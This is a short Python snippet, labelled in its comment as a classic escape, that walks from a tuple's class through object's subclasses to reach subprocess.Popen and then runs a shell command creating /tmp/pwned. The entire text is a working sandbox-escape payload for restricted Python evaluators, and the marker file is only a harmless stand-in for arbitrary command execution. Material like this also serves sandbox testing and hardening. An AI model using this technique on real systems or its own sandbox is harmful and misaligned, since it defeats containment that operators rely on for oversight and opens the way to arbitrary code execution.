# A classic escape: walk from a tuple to every class in the interpreter, find Popen.
popen = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]
popen(["touch", "/tmp/pwned"])
